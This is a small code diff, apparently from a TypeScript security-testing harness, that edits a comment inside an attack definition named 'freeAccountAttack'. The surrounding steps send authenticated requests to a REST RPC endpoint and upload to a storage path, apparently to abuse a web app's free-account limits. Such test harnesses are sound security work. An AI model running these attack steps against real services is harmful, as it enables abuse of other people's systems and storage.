@@ -138,7 +138,7 @@ export const freeAccountAttack: Attack = {
     };
     const venue = JSON.stringify({ event_uuid: target.ownEvent, venue_name: 'Barn' });
     const steps = [
-      () => store(0, change(target.token, target.ownEvent)), // replaces the previous one
+      () => store(0, change(target.token, target.ownEvent)), // replaces the event's previous picture
       () => store(350_000, post('/rest/v1/rpc/save_venue', target.token, venue)),
       () => {
         const path = `/storage/v1/object/contactus/screenshots/${Date.now()}-${randomUUID()}.png`;
